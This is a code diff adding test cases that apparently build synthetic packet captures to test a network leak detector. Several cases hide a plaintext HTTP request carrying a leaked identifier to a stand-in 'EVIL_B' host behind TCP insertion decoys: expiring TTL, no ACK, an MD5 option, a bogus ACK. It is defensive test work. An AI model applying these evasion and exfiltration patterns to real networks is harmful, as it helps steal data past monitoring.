@@ -797,6 +797,92 @@ def case_after_insert_badsum(n):
 
 
 @case
+def case_after_insert_ttl(n):
+    """The decoy record with a TTL that expires before the server."""
+    return after_insert(n, 42156, 256, ipkw={"ttl": 1})
+
+
+def after_insert(n, cport, isn, **decoy_kw):
+    """After the handshake, a well-framed application data record that the
+    server discards (decoy_kw: how), then, at the same sequence number,
+    plaintext HTTP."""
+    cap = Capture()
+    t = tls_established(cap, S1, cport, E2M, isn, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    flags = decoy_kw.pop("flags", "PA")
+    t.raw(True, flags, decoy, seq=base, **decoy_kw)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_insert_noack(n):
+    """The decoy record without the ACK flag (discarded once synchronized)."""
+    return after_insert(n, 42157, 257, flags="P")
+
+
+@case
+def case_after_insert_md5(n):
+    """The decoy record with a TCP-MD5 signature option (dropped by a server without the key)."""
+    return after_insert(n, 42158, 258, options=[(19, prand(n + "md5", 16))])
+
+
+@case
+def case_after_insert_badack(n):
+    """The decoy record acknowledging bytes the server never sent."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42159, E2M, 259, n)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, ack=(t.sseq + 70000) & 0xFFFFFFFF)
+    t.raw(True, "PA", http, seq=base)
+    t.cseq = base + len(http)
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_after_options_ok(n):
+    """A session whose segments carry timestamps and SACK blocks (options read, nothing refused)."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42160, E2M, 260, n)
+    for k in range(3):
+        rec = marked_record(passm(n), n + "opt%d" % k, 300) if k == 1 else tls_appdata(n + "o%d" % k, 300)
+        opts = [("NOP", None), ("NOP", None), ("Timestamp", (100000 + k, 5000 + k))]
+        t.raw(True, "PA", rec, options=opts)
+        t.cseq += len(rec)
+        t.raw(False, "A", options=opts + [("NOP", None), ("NOP", None),
+                                          ("SAck", (t.cseq + 1000, t.cseq + 2000))])
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_after_server_fin_ok(n):
+    """The server closes first; the client's last record acknowledges its FIN."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42161, E2M, 261, n)
+    t.raw(False, "FA")
+    t.sseq += 1
+    t.raw(True, "A")
+    rec = marked_record(passm(n), n + "bye", 60)
+    t.raw(True, "PA", rec)
+    t.cseq += len(rec)
+    t.raw(False, "A")
+    t.raw(True, "FA")
+    t.cseq += 1
+    t.raw(False, "A")
+    return cap, {"pass": [passm(n)]}
+
+
+@case
 def case_after_insert_badsum_ok(n):
     """After the handshake, a record damaged on the wire (wrong checksum),
     then its retransmission, then more records."""
